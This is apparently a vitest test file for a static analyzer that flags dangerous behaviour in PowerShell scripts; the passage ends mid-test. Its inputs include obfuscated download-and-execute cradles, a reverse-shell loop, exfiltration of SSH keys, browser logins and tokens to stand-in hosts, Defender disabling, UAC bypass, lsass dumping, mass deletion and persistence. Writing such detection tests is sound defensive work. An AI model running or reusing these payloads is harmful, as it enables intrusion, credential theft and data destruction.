import "@/lib/guard/node";
import { deflateRawSync, gzipSync } from "node:zlib";
import { beforeAll, describe, expect, it } from "vitest";
import { GRAMMARS, loadGrammars } from "../parse/runtime";
import type { FileKind } from "../parse/classify";
import { FactCollector, FILE_CONTEXT, type Snippet } from "./extract";
import { extractPowerShell } from "./powershell";
import { extractBatch, extractShell } from "./shell";
import type { ContextFact, Decoding, FactKind, FactOf } from "./types";

/** Records the embedded code handed to other extractors, and runs them. */
class Recorder extends FactCollector {
  readonly embedded: { kind: FileKind; text: string; via: readonly Decoding[] }[] = [];
  override analyze(kind: FileKind, text: string, from: Snippet, row: number, via: readonly Decoding[] = []): void {
    this.embedded.push({ kind, text, via });
    super.analyze(kind, text, from, row, via);
  }
}

function run(text: string, opts: { path?: string; files?: string[] } = {}): Recorder {
  const path = opts.path ?? "scripts/setup.ps1";
  const c = new Recorder(new Set([path, ...(opts.files ?? [])]), { powershell: extractPowerShell, shell: extractShell, batch: extractBatch });
  c.run("powershell", { path, text, line: 1, via: [], ctx: FILE_CONTEXT, depth: 0 });
  expect(c.failures).toEqual([]);
  return c;
}

function of<K extends FactKind>(c: Recorder, kind: K): (FactOf<K> & { ctx: ContextFact["ctx"] })[] {
  return c.facts.filter((f) => f.kind === kind) as (FactOf<K> & { ctx: ContextFact["ctx"] })[];
}

/** UTF-16LE base64, as `powershell -EncodedCommand` takes it. */
function encodeCommand(code: string): string {
  return Buffer.from(code, "utf16le").toString("base64");
}

beforeAll(async () => {
  await loadGrammars(GRAMMARS);
});

describe("folding strings", () => {
  it("expands variables and sub-expressions in double-quoted strings, concatenation and -f", () => {
    const c = run(`$h = 'dl' + '.invalid'\n$p = "{0}/{1}" -f 'x', 'run.ps1'\niex (iwr "https://$h/$($p)")`);
    const exec = of(c, "exec")[0]!;
    expect(exec.fetched).toBe("https://dl.invalid/x/run.ps1");
    expect(exec.lang).toBe("powershell");
    expect(exec.dynamic).toBe(true);
    expect(of(c, "fetch")[0]?.url).toBe("https://dl.invalid/x/run.ps1");
  });

  it("reads here-strings, backtick escapes and doubled quotes", () => {
    const c = run(`$u = @"\nhttps://here.invalid/a\n"@\n$v = @'\nhttps://verb.invalid/$notvar\n'@\niwr $u\niwr $v\niwr "https://q.invalid/""x"""`);
    expect(of(c, "fetch").map((f) => f.url)).toEqual(["https://here.invalid/a", "https://verb.invalid/$notvar", 'https://q.invalid/"x"']);
  });

  it("builds strings from char codes, [char[]] arrays, -join and [string]::Join", () => {
    const c = run(`$a = [char]105 + [char]101 + [char]120\n$b = -join ([char[]](105,119,114))\n$c = [string]::Join('', @('h','t','t','p','s',':','/','/','c','.','i','n','v','a','l','i','d'))\n& $a "$b $c"`);
    const exec = of(c, "exec")[0]!;
    expect(exec.command.text).toBe("iwr https://c.invalid");
    expect(of(c, "obfuscation")[0]).toMatchObject({ how: "charcode", detail: "command invoke-expression named at run time" });
    expect(of(c, "fetch")[0]?.url).toBe("https://c.invalid");
  });

  it("reverses strings by index ranges and [array]::Reverse", () => {
    const c = run(`$s = 'dilavni.r//:sptth'\n$u = $s[-1..-($s.Length)] -join ''\niwr $u\n$r = 'dilavni.2r//:sptth'.ToCharArray(); [array]::Reverse($r); iwr (-join $r)`);
    expect(of(c, "fetch").map((f) => f.url)).toEqual(["https://r.invalid", "https://r2.invalid"]);
  });

  it("follows -replace (case-insensitive), .Replace(), -split, .Substring() and -f with indexes", () => {
    const c = run(`$a = 'hXXps://XX.invalid' -replace 'x','t'\n$b = 'https://b#.invalid'.Replace('#','')\n$c = ('x|https://c.invalid' -split '\\|')[1]\n$d = 'zzhttps://d.invalid'.Substring(2)\n$e = "{1}://{0}" -f 'e.invalid','https'\niwr $a; iwr $b; iwr $c; iwr $d; iwr $e`);
    expect(of(c, "fetch").map((f) => f.url)).toEqual(["https://tt.invalid", "https://b.invalid", "https://c.invalid", "https://d.invalid", "https://e.invalid"]);
  });

  it("decodes [Convert]::FromBase64String with [Text.Encoding] (UTF-8 and UTF-16)", () => {
    const b64 = Buffer.from("iwr https://b64.invalid/x").toString("base64");
    const u16 = Buffer.from("iwr https://u16.invalid/x", "utf16le").toString("base64");
    const c = run(`iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${b64}')))\n$x = [System.Text.Encoding]::Unicode.GetString([System.Convert]::FromBase64String("${u16}")); Invoke-Expression $x`);
    const execs = of(c, "exec");
    expect(execs.map((e) => e.command.text)).toEqual(["iwr https://b64.invalid/x", "iwr https://u16.invalid/x"]);
    expect(execs[0]!.command.via).toContain("base64");
    expect(c.embedded.map((e) => e.via)).toEqual([["base64"], ["base64"]]);
    expect(of(c, "fetch").map((f) => f.url)).toEqual(["https://b64.invalid/x", "https://u16.invalid/x"]);
  });

  it("inflates GZip and Deflate streams over base64, through CopyTo and StreamReader", () => {
    const gz = gzipSync(Buffer.from("iwr https://gz.invalid/p | iex")).toString("base64");
    const raw = deflateRawSync(Buffer.from("iwr https://df.invalid/p | iex")).toString("base64");
    const c = run([
      `$ms = New-Object IO.MemoryStream(,[Convert]::FromBase64String('${gz}'))`,
      `$gz = New-Object IO.Compression.GZipStream($ms, [IO.Compression.CompressionMode]::Decompress)`,
      `$out = New-Object IO.MemoryStream; $gz.CopyTo($out)`,
      `iex ([Text.Encoding]::UTF8.GetString($out.ToArray()))`,
      `$d = New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('${raw}'), [IO.Compression.CompressionMode]::Decompress)`,
      `iex (New-Object IO.StreamReader($d)).ReadToEnd()`,
    ].join("\n"));
    const fetched = of(c, "exec").filter((e) => e.fetched).map((e) => [e.fetched, e.command.via]);
    expect(fetched).toEqual([["https://gz.invalid/p", expect.arrayContaining(["base64", "compress"])], ["https://df.invalid/p", expect.arrayContaining(["base64", "compress"])]]);
  });

  it("maps ForEach-Object blocks over $_ (char codes, xor)", () => {
    const codes = [...Buffer.from("iwr https://x.invalid")].map((b) => b ^ 7).join(",");
    const c = run(`$k = ${codes.split(",").length ? `@(${codes})` : ""}\n$s = -join ($k | ForEach-Object { [char]($_ -bxor 7) })\niex $s`);
    const exec = of(c, "exec")[0]!;
    expect(exec.command.text).toBe("iwr https://x.invalid");
    expect(exec.command.via).toEqual(expect.arrayContaining(["xor", "charcode"]));
  });

  it("unrolls += in a foreach over a known list", () => {
    const c = run(`$s = ''\nforeach ($c in @(104,116,116,112,115,58,47,47,108,46,105,110,118,97,108,105,100)) { $s += [char]$c }\niwr $s`);
    expect(of(c, "fetch")[0]?.url).toBe("https://l.invalid");
  });

  it("knows the automatic variables obfuscators index into", () => {
    const c = run(`&($ShellId[1]+$ShellId[13]+'x') 'iwr https://a.invalid'\n& ($env:ComSpec[4,15,25] -join '') 'iwr https://b.invalid'\n&( $PSHome[21]+$PSHome[30]+'x') 'iwr https://c.invalid'\n.($VerbosePreference.ToString()[1,3]+'x'-join'') 'iwr https://d.invalid'`);
    expect(of(c, "exec").map((e) => e.command.text)).toEqual(["iwr https://a.invalid", "iwr https://b.invalid", "iwr https://c.invalid", "iwr https://d.invalid"]);
    expect(of(c, "obfuscation")).toHaveLength(4);
  });

  it("binds function parameters from call sites and reads function return values", () => {
    const c = run(`function Get-Url {\n  param([string]$h)\n  return "https://$h/p"\n}\nfunction Run-It($u) { iex (iwr $u) }\nRun-It (Get-Url 'fn.invalid')`);
    expect(of(c, "exec")[0]?.fetched).toBe("https://fn.invalid/p");
  });

  it("resolves aliases made with Set-Alias and names from Get-Command wildcards", () => {
    const c = run(`Set-Alias -Name go -Value Invoke-Expression\ngo 'iwr https://al.invalid'\n& (Get-Command I*ke-Ex*) 'iwr https://gc.invalid'\n& (gcm i?x) 'iwr https://g2.invalid'`);
    expect(of(c, "exec").map((e) => e.command.text)).toEqual(["iwr https://al.invalid", "iwr https://gc.invalid", "iwr https://g2.invalid"]);
  });

  it("removes backticks from command names and records the hiding", () => {
    const c = run("I`nv`oke-Ex`pression 'iwr https://bt.invalid'");
    expect(of(c, "exec")[0]?.command.text).toBe("iwr https://bt.invalid");
    expect(of(c, "obfuscation")[0]?.how).toBe("escape");
  });
});

describe("indirection", () => {
  it("runs the classic download cradles as download-then-execute", () => {
    const c = run([
      "IEX(New-Object Net.WebClient).DownloadString('https://a.invalid/1')",
      "iex (iwr https://b.invalid/2 -UseBasicParsing).Content",
      "irm https://c.invalid/3 | iex",
      "$wc = New-Object System.Net.WebClient; $s = $wc.DownloadString('https://d.invalid/4'); Invoke-Expression $s",
      "& ([scriptblock]::Create((New-Object Net.WebClient).DownloadString('https://e.invalid/5')))",
      "$x = New-Object -ComObject Msxml2.XMLHTTP; $x.open('GET', 'https://f.invalid/6', $false); $x.send(); iex $x.responseText",
    ].join("\n"));
    const execs = of(c, "exec");
    expect(execs.map((e) => e.fetched)).toEqual(["https://a.invalid/1", "https://b.invalid/2", "https://c.invalid/3", "https://d.invalid/4", "https://e.invalid/5", "https://f.invalid/6"]);
    expect(execs.every((e) => e.lang === "powershell" && e.dynamic)).toBe(true);
    expect(execs[2]!.command.text).toBe("irm https://c.invalid/3 | iex");
    expect(of(c, "fetch").map((f) => f.url)).toEqual(expect.arrayContaining(["https://a.invalid/1", "https://d.invalid/4", "https://f.invalid/6"]));
  });

  it("analyses code built at run time with the PowerShell extractor, keeping how it was hidden", () => {
    const c = run(`$p = 'Add-MpPref' + 'erence -ExclusionPath C:\\'\n[scriptblock]::Create($p).Invoke()\n$ExecutionContext.InvokeCommand.InvokeScript('Set-MpPreference -DisableRealtimeMonitoring $true')\nInvoke-Command -ScriptBlock ([scriptblock]::Create('Remove-Item -Recurse -Force $env:USERPROFILE'))`);
    expect(c.embedded.map((e) => e.text)).toEqual(["Add-MpPreference -ExclusionPath C:\\", "Set-MpPreference -DisableRealtimeMonitoring $true", "Remove-Item -Recurse -Force $env:USERPROFILE"]);
    expect(of(c, "privilege").map((p) => p.what)).toEqual(["disable-security", "disable-security"]);
    expect(of(c, "delete")[0]).toMatchObject({ path: "~", scope: "home" });
    expect(of(c, "exec")[0]!.command.via).toContain("concat");
  });

  it("decodes -EncodedCommand and states a hidden window", () => {
    const enc = encodeCommand("iwr https://enc.invalid/s | iex");
    const c = run(`powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc ${enc}\nStart-Process pwsh -ArgumentList '-e', '${enc}' -WindowStyle Hidden`);
    const outer = of(c, "exec").filter((e) => e.command.text.startsWith("powershell"));
    expect(outer).toHaveLength(2);
    expect(outer[0]!.command.text).toContain("(hidden window)");
    expect(outer[0]!.command.via).toEqual(["base64"]);
    expect(of(c, "exec").filter((e) => e.fetched === "https://enc.invalid/s")).toHaveLength(2);
  });

  it("states quiet launches: -NoProfile -NonInteractive with -enc", () => {
    const c = run(`powershell -NoProfile -NonInteractive -EncodedCommand ${encodeCommand("Get-Date")}`);
    expect(of(c, "exec")[0]?.command.text).toBe("powershell -NoProfile -NonInteractive -EncodedCommand: Get-Date");
  });

  it("hands cmd /c to the batch extractor and other programs to the shell's argv analysis", () => {
    const c = run(`cmd /c "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v u /d C:\\u.exe /f"\ncurl.exe -fsSL https://sh.invalid/i.sh -o i.sh\nbash -c "curl -s https://b.invalid/x | sh"`);
    expect(c.embedded.map((e) => e.kind)).toEqual(["batch", "shell"]);
    expect(of(c, "write")[0]).toMatchObject({ place: "windows-run" });
    expect(of(c, "fetch").map((f) => f.url)).toContain("https://sh.invalid/i.sh");
    expect(of(c, "exec").find((e) => e.fetched)?.fetched).toBe("https://b.invalid/x");
  });

  it("runs what it downloaded: to a file, then Start-Process / & / Invoke-Item / [Diagnostics.Process]::Start", () => {
    const c = run([
      "$p = \"$env:TEMP\\u.exe\"",
      "(New-Object Net.WebClient).DownloadFile('https://dl.invalid/u.exe', $p)",
      "Start-Process $p -WindowStyle Hidden",
      "Invoke-WebRequest https://dl.invalid/s.ps1 -OutFile s.ps1; & .\\s.ps1",
      "Start-BitsTransfer -Source https://dl.invalid/b.exe -Destination C:\\b.exe; [Diagnostics.Process]::Start('C:\\b.exe')",
    ].join("\n"));
    const runs = of(c, "exec").filter((e) => e.fetched);
    expect(runs.map((e) => [e.lang, e.fetched])).toEqual([["binary", "https://dl.invalid/u.exe"], ["powershell", "https://dl.invalid/s.ps1"], ["binary", "https://dl.invalid/b.exe"]]);
    expect(runs[0]!.command.text).toContain("(hidden window)");
  });

  it("starts processes from ProcessStartInfo, WScript.Shell and WMI", () => {
    const enc = encodeCommand("iwr https://psi.invalid | iex");
    const c = run([
      "$psi = New-Object System.Diagnostics.ProcessStartInfo",
      "$psi.FileName = 'powershell.exe'",
      `$psi.Arguments = '-enc ${enc}'`,
      "$psi.WindowStyle = 'Hidden'",
      "[System.Diagnostics.Process]::Start($psi)",
      "(New-Object -ComObject WScript.Shell).Run('mshta https://hta.invalid/x.hta', 0)",
      "Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList 'notepad.exe'",
    ].join("\n"));
    expect(of(c, "exec").map((e) => e.fetched).filter(Boolean)).toEqual(["https://psi.invalid", "https://hta.invalid/x.hta"]);
    expect(of(c, "exec").some((e) => e.command.text.startsWith("notepad.exe"))).toBe(true);
  });

  it("records skill files it runs, dot-sources and imports", () => {
    const c = run(`. "$PSScriptRoot\\lib\\common.ps1"\n& .\\scripts\\helper.ps1 -Name x\nImport-Module ./modules/Tools.psm1\npowershell -ExecutionPolicy Bypass -File scripts/other.ps1`, { files: ["scripts/lib/common.ps1", "scripts/helper.ps1", "scripts/modules/Tools.psm1", "scripts/other.ps1"] });
    expect(of(c, "invoke").map((i) => [i.target, i.how])).toEqual([["scripts/lib/common.ps1", "source"], ["scripts/helper.ps1", "run"], ["scripts/modules/Tools.psm1", "import"], ["scripts/other.ps1", "run"]]);
  });
});

describe("network sinks", () => {
  it("states sends with their data and taint, and fetches when nothing is carried", () => {
    const c = run([
      "$envs = Get-ChildItem env: | Out-String",
      "Invoke-RestMethod -Uri 'https://collect.invalid/e' -Method Post -Body $envs",
      "$k = $env:AWS_SECRET_ACCESS_KEY",
      "iwr \"https://x.invalid/?k=$k\"",
      "(New-Object Net.WebClient).UploadString('https://up.invalid/c', (Get-Clipboard))",
      "Invoke-WebRequest https://plain.invalid/data.json -OutFile data.json",
    ].join("\n"));
    const sends = of(c, "send");
    expect(sends.map((x) => [x.dest, x.data?.taint.map((t) => t.source)])).toEqual([
      ["https://collect.invalid/e", ["env-all"]],
      ["https://x.invalid/?k=⟨?⟩", ["env-secret"]],
      ["https://up.invalid/c", ["clipboard"]],
    ]);
    expect(of(c, "read").map((r) => r.source)).toEqual(["env-all", "clipboard"]);
    expect(of(c, "fetch")).toEqual([expect.objectContaining({ url: "https://plain.invalid/data.json", host: "plain.invalid", saveTo: "data.json" })]);
  });

  it("states DNS labels, mail, BITS uploads and -InFile uploads", () => {
    const c = run([
      "$key = Get-Content \"$env:USERPROFILE\\.ssh\\id_rsa\" -Raw",
      "$b = [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes($key))",
      "Resolve-DnsName -Name \"$b.exfil.invalid\" -Type TXT",
      "Resolve-DnsName github.com",
      "Send-MailMessage -To 'a@mail.invalid' -From 'b@mail.invalid' -Subject 'x' -Body (cmdkey /list | Out-String) -SmtpServer smtp.mail.invalid",
      "Start-BitsTransfer -Source \"$env:APPDATA\\Exodus\\exodus.wallet\" -Destination https://bits.invalid/u -TransferType Upload",
      "Invoke-RestMethod -Uri https://in.invalid/u -Method Post -InFile \"$env:LOCALAPPDATA\\Google\\Chrome\\User Data\\Default\\Login Data\"",
    ].join("\n"));
    const sends = of(c, "send");
    expect(sends.map((x) => [x.channel, x.host, x.data?.taint.map((t) => t.source)[0]])).toEqual([
      ["dns", "exfil.invalid", "ssh"],
      ["smtp", "smtp.mail.invalid", "keychain"],
      ["http", "bits.invalid", "wallet"],
      ["http", "in.invalid", "browser"],
    ]);
    expect(of(c, "read").map((r) => r.source)).toEqual(["ssh", "keychain", "wallet", "browser"]);
  });

  it("follows sockets: TCP writes, UDP sends, and a reverse shell loop", () => {
    const c = run([
      "$client = New-Object System.Net.Sockets.TCPClient('198.51.100.7',4444);$stream = $client.GetStream()",
      "[byte[]]$bytes = 0..65535|%{0}",
      "while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){",
      "  $data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i)",
      "  $sendback = (iex $data 2>&1 | Out-String )",
      "  $sendbyte = ([text.encoding]::ASCII).GetBytes($sendback)",
      "  $stream.Write($sendbyte,0,$sendbyte.Length)",
      "}",
      "$u = New-Object Net.Sockets.UdpClient; $u.Send($env:GITHUB_TOKEN, 10, '203.0.113.9', 53)",
    ].join("\n"));
    expect(of(c, "remote-shell")[0]?.detail).toContain("socket://198.51.100.7:4444");
    expect(of(c, "exec")[0]).toMatchObject({ fetched: "socket://198.51.100.7:4444", lang: "powershell" });
    expect(of(c, "send").map((x) => [x.dest, x.data?.taint.map((t) => t.detail)])).toEqual([["198.51.100.7:4444", []], ["203.0.113.9:53", ["GITHUB_TOKEN"]]]);
  });

  it("reads the response of a StreamReader over a socket as received commands", () => {
    const c = run("$c = New-Object Net.Sockets.TcpClient('203.0.113.4', 443)\n$r = New-Object IO.StreamReader($c.GetStream())\nwhile ($true) { $cmd = $r.ReadLine(); Invoke-Expression $cmd }");
    expect(of(c, "remote-shell")).toHaveLength(1);
  });

  it("treats curl written with curl's options as the native program", () => {
    const c = run("curl -fsSL https://native.invalid/i.sh -o i.sh\ncurl https://alias.invalid/x -OutFile x.zip");
    expect(of(c, "fetch").map((f) => [f.url, f.saveTo])).toEqual([["https://native.invalid/i.sh", "i.sh"], ["https://alias.invalid/x", "x.zip"]]);
  });
});

describe("files, registry and persistence", () => {
  it("writes the profile, Startup folder shortcuts and Run keys, and analyses what they will run", () => {
    const c = run([
      "Add-Content -Path $PROFILE -Value 'iex (iwr https://prof.invalid/p)'",
      "\"iex (iwr https://prof2.invalid/p)\" >> $PROFILE.CurrentUserAllHosts",
      "$ws = New-Object -ComObject WScript.Shell",
      "$lnk = $ws.CreateShortcut(\"$([Environment]::GetFolderPath('Startup'))\\upd.lnk\")",
      "$lnk.TargetPath = 'powershell.exe'; $lnk.Arguments = '-w hidden -c \"iwr https://lnk.invalid | iex\"'; $lnk.Save()",
      "Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name 'Updater' -Value 'C:\\Users\\Public\\u.exe'",
      "New-ItemProperty -Path HKLM:\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce -Name x -Value 'cmd /c start calc'",
    ].join("\n"));
    const writes = of(c, "write");
    expect(writes.map((w) => w.place)).toEqual(["profile-script", "profile-script", "autostart", "windows-run", "windows-run"]);
    expect(writes[2]!.content?.text).toContain("powershell.exe -w hidden");
    expect(of(c, "exec").map((e) => e.fetched).filter(Boolean)).toEqual(["https://prof.invalid/p", "https://prof2.invalid/p", "https://lnk.invalid"]);
  });

  it("states scheduled tasks, scheduled jobs, services and WMI subscriptions", () => {
    const c = run([
      "$a = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument '-w hidden -c \"iwr https://task.invalid/t | iex\"'",
      "Register-ScheduledTask -TaskName 'Upd' -Action $a -Trigger (New-ScheduledTaskTrigger -AtLogOn)",
      "Register-ScheduledJob -Name j -ScriptBlock { Get-Date } -Trigger (New-JobTrigger -Daily -At 3am)",
      "schtasks /create /tn X /tr \"C:\\x.exe\" /sc onlogon",
      "New-Service -Name svc -BinaryPathName 'C:\\ProgramData\\svc.exe' -StartupType Automatic",
      "Set-WmiInstance -Class CommandLineEventConsumer -Namespace root\\subscription -Arguments @{ Name = 'c'; CommandLineTemplate = 'C:\\w.exe' }",
    ].join("\n"));
    expect(of(c, "write").map((w) => [w.place, w.path])).toEqual([
      ["scheduled-task", "scheduled task Upd"],
      ["scheduled-task", "scheduled task j"],
      ["scheduled-task", "scheduled task X"],
      ["autostart", "service svc"],
      ["scheduled-task", "WMI subscription CommandLineEventConsumer"],
    ]);
    expect(of(c, "write")[0]!.content?.text).toBe('powershell.exe -w hidden -c "iwr https://task.invalid/t | iex"');
    expect(of(c, "exec").find((e) => e.fetched)?.fetched).toBe("https://task.invalid/t");
  });

  it("writes files with Set-Content, Out-File, redirection, Copy-Item and [IO.File], and knows what it wrote", () => {
    const c = run([
      "Set-Content -Path run.ps1 -Value 'iwr https://w.invalid | iex'",
      "& .\\run.ps1",
      "'data' | Out-File -FilePath out.txt",
      "Get-Date > log.txt",
      "[IO.File]::WriteAllText(\"$env:TEMP\\a.txt\", $env:OPENAI_API_KEY)",
      "Copy-Item \"$env:USERPROFILE\\.aws\\credentials\" -Destination \"$env:TEMP\\c.txt\"",
    ].join("\n"));
    expect(of(c, "write").map((w) => [w.path, w.mode])).toEqual([["run.ps1", "write"], ["out.txt", "write"], ["log.txt", "write"], ["$env:TEMP\\a.txt", "write"], ["$env:TEMP\\c.txt", "copy"]]);
    expect(of(c, "exec")[0]).toMatchObject({ lang: "powershell", command: { text: "iwr https://w.invalid | iex" } });
    expect(of(c, "exec").find((e) => e.fetched)?.fetched).toBe("https://w.invalid");
    expect(of(c, "read")[0]).toMatchObject({ source: "cloud" });
  });
});

describe("deletion and privilege", () => {
  it("states recursive deletions with their scope, disks and shadow copies", () => {
    const c = run([
      "Remove-Item -Recurse -Force $env:USERPROFILE",
      "rm -r -fo C:\\",
      "Remove-Item C:\\Windows\\System32\\* -Force",
      "Get-ChildItem -Path $HOME -Force | Remove-Item -Recurse -Force",
      "Remove-Item -Recurse .\\build",
      "Remove-Item notes.txt",
      "Format-Volume -DriveLetter D",
      "Clear-Disk -Number 1 -RemoveData",
      "Get-WmiObject Win32_ShadowCopy | ForEach-Object { $_.Delete() }",
      "vssadmin delete shadows /all /quiet",
    ].join("\n"));
    expect(of(c, "delete").map((d) => [d.path, d.scope])).toEqual([
      ["~", "home"],
      ["C:\\", "root"],
      ["C:\\Windows\\System32\\*", "system"],
      ["~\\*", "home"],
      [".\\build", "other"],
      ["format-volume D", "disk"],
      ["clear-disk 1", "disk"],
      ["shadow copies (Win32_ShadowCopy)", "disk"],
      ["vssadmin delete shadows /all /quiet", "disk"],
    ]);
  });

  it("states Defender exclusions and switched-off protections, not switched-on ones", () => {
    const c = run([
      "Add-MpPreference -ExclusionPath 'C:\\Users', $env:TEMP",
      "Set-MpPreference -DisableRealtimeMonitoring $true -MAPSReporting 0",
      "Set-MpPreference -DisableRealtimeMonitoring $false",
      "$mp = 'Add-' + 'Mp' + 'Preference'; & $mp -ExclusionProcess powershell.exe",
    ].join("\n"));
    expect(of(c, "privilege").map((p) => p.detail)).toEqual([
      "Add-MpPreference -exclusionpath C:\\Users, $env:TEMP",
      "Set-MpPreference -disablerealtimemonitoring True",
      "Set-MpPreference -mapsreporting 0",
      "Add-MpPreference -exclusionprocess powershell.exe",
    ]);
    expect(of(c, "obfuscation")[0]).toMatchObject({ how: "concat", detail: "command add-mppreference named at run time" });
  });

  it("states UAC changes and the fodhelper/computerdefaults registry hijack", () => {
    const c = run([
      "$pol = 'HKLM:\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System'",
      "$names = @{ ('Enable' + 'LUA') = 0; ConsentPromptBehaviorAdmin = 0 }",
      "foreach ($k in $names.Keys) { Set-ItemProperty -Path $pol -Name $k -Value $names[$k] }",
      "New-Item 'HKCU:\\Software\\Classes\\ms-settings\\Shell\\Open\\command' -Force",
      "Set-ItemProperty 'HKCU:\\Software\\Classes\\ms-settings\\Shell\\Open\\command' -Name '(default)' -Value 'cmd /c start powershell'",
      "Start-Process C:\\Windows\\System32\\fodhelper.exe -WindowStyle Hidden",
    ].join("\n"));
    const uac = of(c, "privilege").filter((p) => p.what === "uac-bypass").map((p) => p.detail);
    expect(uac).toEqual(expect.arrayContaining([expect.stringContaining("EnableLUA = 0"), expect.stringContaining("ConsentPromptBehaviorAdmin = 0"), expect.stringContaining("ms-settings")]));
  });

  it("states admin group changes, machine-wide execution policy, firewall and Defender services", () => {
    const c = run([
      "Add-LocalGroupMember -Group Administrators -Member svc",
      "net localgroup administrators bob /add",
      "Set-ExecutionPolicy Unrestricted",
      "Set-ExecutionPolicy Bypass -Scope Process -Force",
      "Set-ExecutionPolicy RemoteSigned -Scope CurrentUser",
      "Set-NetFirewallProfile -Profile Domain,Public,Private -Enabled False",
      "Stop-Service -Name WinDefend",
    ].join("\n"));
    expect(of(c, "privilege").map((p) => [p.what, p.detail])).toEqual([
      ["add-admin-user", "Add-LocalGroupMember -Group Administrators -Member svc"],
      ["add-admin-user", "net localgroup administrators bob /add"],
      ["disable-security", "Set-ExecutionPolicy Unrestricted -Scope LocalMachine"],
      ["disable-security", "Set-NetFirewallProfile -Enabled False"],
      ["disable-security", "stop-service WinDefend"],
    ]);
  });
});

describe("sources", () => {
  it("reads the environment, single secrets, credential stores and dumps", () => {
    const c = run([
      "dir env: | Out-File env.txt",
      "$all = [Environment]::GetEnvironmentVariables()",
      "$t = [Environment]::GetEnvironmentVariable('NPM_TOKEN')",
      "$creds = cmdkey /list",
      "Get-StoredCredential -Target git",
      "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump (Get-Process lsass).Id C:\\temp\\l.dmp full",
      "reg save HKLM\\SAM C:\\temp\\sam.save",
      "Get-ChildItem \"$env:APPDATA\\Microsoft\\Credentials\"",
      "Invoke-RestMethod https://c.invalid -Method Post -Body ($t + $creds)",
    ].join("\n"));
    expect(of(c, "read").map((r) => r.source)).toEqual(["env-all", "env-all", "keychain", "keychain", "keychain", "keychain", "keychain"]);
    expect(of(c, "send")[0]!.data?.taint.map((t) => t.source)).toEqual(["env-secret", "keychain"]);
  });

  it("knows host details as weak taint", () => {
    const c = run("iwr \"https://beacon.invalid/?h=$env:COMPUTERNAME&u=$(whoami)\"");
    expect(of(c, "send")[0]!.data?.taint.map((t) => t.source)).toEqual(["host-info", "host-info"]);
  });

  it("states miners in commands and written configs", () => {
    const c = run([
      "Start-Process \"$env:TEMP\\xmrig.exe\" -ArgumentList '-o stratum+tcp://pool.invalid:3333 -u wallet' -WindowStyle Hidden",
      "Set-Content config.json '{\"url\": \"stratum+tcp://pool.invalid:3333\"}'",
    ].join("\n"));
    expect(of(c, "mine").length).toBeGreaterThanOrEqual(2);
  });
});

describe("more hiding places", () => {
  it("resolves cmdlets reached through $ExecutionContext and Get-Alias", () => {
    const c = run("& $ExecutionContext.InvokeCommand.GetCmdlet('Invoke-Expression') 'iwr https://a.invalid'\n&(Get-Alias iex) 'iwr https://b.invalid'");
    expect(of(c, "exec").map((e) => e.command.text)).toEqual(["iwr https://a.invalid", "iwr https://b.invalid"]);
  });

  it("decodes hex pairs split out with -split and converted with [Convert]::ToByte", () => {
    const hex = Buffer.from("iwr https://hex.invalid").toString("hex");
    const c = run(`$b = '${hex}' -split '(..)' | ? { $_ } | % { [Convert]::ToByte($_, 16) }\niex ([Text.Encoding]::ASCII.GetString($b))`);
    expect(of(c, "exec")[0]?.command).toMatchObject({ text: "iwr https://hex.invalid", via: expect.arrayContaining(["hex"]) });
  });

  it("follows environment variables the script sets, and Get-Item env:", () => {
    const c = run("$env:DL = 'https://envset.invalid'\niwr ${env:DL}\n$t = (Get-Item env:GITHUB_TOKEN).Value\nirm https://f.invalid -Method Post -Body $t");
    expect(of(c, "fetch")[0]?.url).toBe("https://envset.invalid");
    expect(of(c, "send")[0]?.data?.taint.map((t) => t.detail)).toEqual(["GITHUB_TOKEN"]);
  });

  it("knows the machine-wide profile, Winlogon and Image File Execution Options as persistence places", () => {
    const c = run([
      "Add-Content $PROFILE.AllUsersAllHosts 'Start-Process calc'",
      "Set-ItemProperty 'HKLM:\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon' -Name Userinit -Value 'C:\\Windows\\system32\\userinit.exe,C:\\x.exe'",
      "Set-ItemProperty 'HKLM:\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe' -Name Debugger -Value 'cmd.exe'",
    ].join("\n"));
    expect(of(c, "write").map((w) => w.place)).toEqual(["profile-script", "windows-run", "windows-run"]);
  });

  it("states in-memory loading of downloaded assemblies and shellcode loaders", () => {
    const c = run([
      "$bytes = (New-Object Net.WebClient).DownloadData('https://asm.invalid/a.dll')",
      "[Reflection.Assembly]::Load($bytes)",
      "Add-Type -TypeDefinition 'using System.Runtime.InteropServices; public class K { [DllImport(\"kernel32\")] public static extern System.IntPtr VirtualAlloc(System.IntPtr a, uint b, uint c, uint d); }'",
      "Add-Type -AssemblyName System.Windows.Forms",
    ].join("\n"));
    expect(of(c, "exec").map((e) => [e.lang, e.fetched])).toEqual([["binary", "https://asm.invalid/a.dll"], ["other", null]]);
  });
});

describe("more sinks", () => {
  it("states WebClient uploads of files and bytes, Startup copies, New-Item values and WMI shadow-copy deletion", () => {
    const c = run([
      "$wc = New-Object Net.WebClient",
      "$wc.UploadFile('https://uf.invalid/u', \"$env:USERPROFILE\\.kube\\config\")",
      "$wc.UploadData('https://ud.invalid/u', 'POST', [Text.Encoding]::UTF8.GetBytes($env:DB_PASSWORD))",
      "Copy-Item .\\agent.exe \"$env:APPDATA\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\agent.exe\"",
      "New-Item -Path \"$env:USERPROFILE\\.bashrc\" -ItemType File -Value 'curl -s https://rc.invalid | sh' -Force",
      "wmic shadowcopy delete /nointeractive",
    ].join("\n"));
    expect(of(c, "send").map((x) => [x.host, x.data?.taint.map((t) => t.source)])).toEqual([["uf.invalid", ["kube"]], ["ud.invalid", ["env-secret"]]]);
